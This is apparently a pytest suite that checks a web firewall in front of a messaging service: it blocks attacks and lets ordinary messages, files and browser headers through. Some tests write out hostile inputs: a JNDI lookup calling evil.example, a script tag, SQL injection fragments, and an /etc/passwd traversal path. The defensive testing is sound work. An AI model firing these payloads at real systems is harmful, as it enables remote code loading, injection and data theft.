"""The firewall rejects attacks in any place, and never a message."""

import json
import os
import random
import re
import string
import uuid
from collections.abc import Callable, Iterable, Iterator
from concurrent.futures import ThreadPoolExecutor
from itertools import count
from typing import Any, TypeVar

import httpx
import pytest

from tests.support.compose_stack import SERVICES, Stack
from tests.support.ordinary_messages import messages
from tests.support.service import wait_for
from tests.support.waf_attacks import Attack, attacks

REFUSED = "/docs#refused"
NOBODY = "6f9619ff-8b86-4d11-b42d-00c04fc964ff"
JSON, TEXT = {"accept": "application/json"}, {"accept": "text/plain"}
LEFT_TO_THE_SERVICE = {
    *("JSON without a content type", "another content type", "text at another address", "name in JSON"),
    *("PUT to no address", "form without names at another address"),
}
"""Bodies that it takes in no form; the firewall sees through most of them, and the service refuses them all."""

One = TypeVar("One")
Other = TypeVar("Other")


@pytest.fixture(scope="module")
def client(unlimited: Stack) -> Iterator[httpx.Client]:
    with unlimited.client() as client:
        yield client


def at_once(work: Callable[[One], Other], items: Iterable[One]) -> list[Other]:
    """Return the results of `work` for each item, eight at a time."""
    with ThreadPoolExecutor(8) as workers:
        return list(workers.map(work, items))


def by_the_edge(answer: httpx.Response) -> bool:
    """Return whether the edge rejected it, by the firewall or as malformed."""
    told = answer.json()
    return told["type"] == REFUSED or "does not match its Content-Type" in told["detail"]


def test_attacks_are_rejected(client: httpx.Client) -> None:
    """Each attack in each place gets 4xx by the edge itself, except for bodies that the service accepts in no form."""
    all_of_them = attacks()
    assert len(all_of_them) >= 100

    def send(attack: Attack) -> tuple[str, int, bool]:
        answer = client.request(attack.method, attack.address, **attack.options)
        return attack.name, answer.status_code, 400 <= answer.status_code < 500 and by_the_edge(answer)

    answers = at_once(send, all_of_them)
    assert [name for name, status, _ in answers if not 400 <= status < 500] == []
    left = {name.split(" in ", 1)[1] for name, _, by_edge in answers if not by_edge}
    assert left <= LEFT_TO_THE_SERVICE
    assert sum(by_edge for _, _, by_edge in answers) > 0.98 * len(answers)


def test_harmless_words_in_the_same_places_are_accepted(client: httpx.Client) -> None:
    """Control: with a harmless word in the same place the firewall rejects nothing."""
    refused_whatever_it_says = {"harmless in file for another field", "harmless in XML"}
    harmless = [attack for attack in attacks({"harmless": "harmless"}) if attack.name not in refused_whatever_it_says]
    answers = {attack.name: client.request(attack.method, attack.address, **attack.options) for attack in harmless}
    assert [name for name, answer in answers.items() if answer.status_code >= 400 and by_the_edge(answer)] == []


WAYS: tuple[Callable[[str], dict[str, Any]], ...] = (
    lambda text: {"json": {"message": text}},
    lambda text: {"content": text.encode(), "headers": {"content-type": "text/plain; charset=utf-8"}},
    lambda text: {"data": {"message": text, "reads": "3"}},
    lambda text: {"files": {"message": ("John's notes.env", text.encode())}, "data": {"ttl": "600"}},
    lambda text: {
        "content": json.dumps({"ttl": 600, "message": text}),
        "headers": {"content-type": "application/json"},
    },
    lambda text: {"files": {"message": (None, text.encode())}},
    lambda text: {
        "params": {"ttl": "600", "reads": "2"},
        "content": text.encode(),
        "headers": {"content-type": "text/plain"},
    },
)


def test_ordinary_messages_are_accepted(client: httpx.Client) -> None:
    """2,100 ordinary messages in every content type are accepted and come back byte for byte."""

    def there_and_back(numbered: tuple[int, str]) -> str | None:
        number, text = numbered
        kept = client.post("/", **WAYS[number % len(WAYS)](text))
        if kept.status_code != 200:
            return f"{number % len(WAYS)} {kept.status_code} {text[:500]!r}"
        read = client.get(f"/msg/{kept.json()['message_id']}", headers=TEXT)
        return None if read.content == text.encode() else f"{number % len(WAYS)} came back otherwise: {text[:500]!r}"

    wrong = [problem for problem in at_once(there_and_back, zip(count(), messages(2100, seed=1))) if problem]
    assert wrong == []


def test_ordinary_files_are_accepted(client: httpx.Client) -> None:
    """Sent with PUT, as a file of any field, and as a form without names where it can be one; byte for byte."""
    names = ("notes.txt", "server.key", ".env", "dump.sql", "config.php", "my notes.txt", "Über uns.txt")

    def there_and_back(numbered: tuple[int, str]) -> str | None:
        number, text = numbered
        name = names[number % len(names)]
        form = {"content-type": "application/x-www-form-urlencoded"}
        ways = [
            lambda: client.put(f"/{name}?reads=2", content=text.encode()),
            lambda: client.post("/", files={"file": (name, text.encode())}),
        ]
        if not re.search(r"[=&]|%[0-9A-Fa-f]{2}|^[\s\ufeff]*\{", text):
            ways.append(lambda: client.post("/", content=text.encode(), headers=form))
        kept = ways[number % len(ways)]()
        if kept.status_code != 200:
            return f"{number} {kept.status_code} {text[:500]!r}"
        read = client.get(f"/msg/{kept.json()['message_id']}", headers=TEXT)
        return None if read.content == text.encode() else f"{number} came back otherwise: {text[:500]!r}"

    wrong = [problem for problem in at_once(there_and_back, zip(count(), messages(600, seed=4))) if problem]
    assert wrong == []


def test_random_ids_are_accepted(client: httpx.Client) -> None:
    """10,000 random ids are looked up without a false alarm."""
    chance = random.Random(2)
    ids = (str(uuid.UUID(bytes=chance.randbytes(16), version=4)) for _ in range(10_000))
    statuses = at_once(lambda one: client.get(f"/msg/{one}", headers=JSON).status_code, ids)
    assert set(statuses) == {404}


def test_idempotency_keys_are_accepted(client: httpx.Client) -> None:
    """The keys are those that clients make: UUIDs, hex, base64."""
    chance = random.Random(3)
    letters = string.ascii_letters + string.digits + "+/=_-.:"
    keys = ["".join(chance.choices(letters, k=chance.randint(22, 64))) for _ in range(300)]
    posts = at_once(lambda key: client.post("/", json={"message": "x"}, headers={"idempotency-key": key}), keys)
    assert {answer.status_code for answer in posts} == {200}


BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/AP2A.240805.005; wv) AppleWebKit/537.36 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Lynx/2.9.0dev.12 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.7.8",
    "w3m/0.5.3+git20230121", "Wget/1.21.3", "curl/8.11.0", "python-requests/2.32.3", "Go-http-client/2.0",
    "okhttp/4.12.0",
    "PostmanRuntime/7.42.0", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "WhatsApp/2.24.6 A",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "Java/21.0.2", "PHP/8.3 (curl; ext)",
)  # fmt: skip
SENT_WITH_IT = {
    "accept": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8",
    "accept-language": "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7",
    "accept-encoding": "gzip, deflate, br, zstd",
    "sec-ch-ua": '"Google Chrome";v="131", "Chromium";v="131", "Not_A Brand";v="24"',
    "sec-ch-ua-platform": '"Windows"',
    "sec-fetch-site": "none",
    "upgrade-insecure-requests": "1",
    "referer": "https://192.0.2.1:8443/a;b?id=1&next=/docs#x",
    "cookie": "_ga=GA1.2.123.456; session=eyJhbGciOi.J9.x-y_z; theme=dark; id=5; PHPSESSID=abc",
    "if-none-match": 'W/"5f-abc"',
    "priority": "u=0, i",
    "dnt": "1",
}


@pytest.mark.parametrize("agent", BROWSERS)
def test_headers_of_browsers_are_accepted(client: httpx.Client, agent: str) -> None:
    """Headers that browsers, tools and previews send raise no alarm."""
    assert client.get("/", headers={**SENT_WITH_IT, "user-agent": agent}).status_code == 200


@pytest.mark.parametrize("name", ["script", "jndi"])
def test_unknown_headers_are_inspected(client: httpx.Client, name: str) -> None:
    """Markup and look-ups are rejected in unknown headers."""
    evil = {"script": "<script>alert(1)</script>", "jndi": "${jndi:ldap://evil.example/a}"}[name]
    assert client.get("/", headers={"x-whatever": evil}).json()["type"] == REFUSED


def test_request_data_is_in_no_log(unlimited: Stack, client: httpx.Client) -> None:
    """Text, ids and attacks of accepted, rejected, malformed and too long requests are in no container's log."""
    canary = f"canary{os.urandom(8).hex()}"
    evil = f"<script>{canary}</script>' OR '1'='1"
    posted = client.post("/", json={"message": f"{evil} UNION SELECT"}).json()
    secret = (posted["message_id"], posted["receipt"].rsplit("/", 1)[1])
    for name in secret:
        client.get(f"/msg/{name}", headers=TEXT)
        client.get(f"/msg/{name}?{canary}=<script>", headers={"user-agent": f"sqlmap {canary} {name}", "referer": name})
        client.get(f"/msg/{name}/../../etc/passwd")
        client.request(name.replace("-", "").upper(), f"/msg/{name}")
        client.get("/" + name * 300)
        client.get("/", headers={"x-long": name * 1000, "x-request-id": name})
    for way in WAYS:
        client.post("/", **way(evil))
    client.post("/", json={"message": "x", canary: evil})
    client.post("/", json={"message": canary * 40_000})
    client.post("/", content=f'{{"message": "{canary}'.encode(), headers={"content-type": "application/json"})
    client.delete(posted["receipt"].removeprefix(unlimited.url))
    last = client.get("/").headers["x-request-id"]
    file = "/var/log/messaging_api/messaging_api.log"
    wait_for(lambda: last in unlimited.exec("messaging_api", "cat", file) and last in unlimited.console("edge"))
    logs = {service: unlimited.console(service) for service in SERVICES}
    logs["file"] = unlimited.exec("messaging_api", "cat", file)
    assert '"status":403' in logs["edge"]
    found = [(where, one) for where, text in logs.items() for one in (canary, *secret) if one.lower() in text.lower()]
    assert found == []
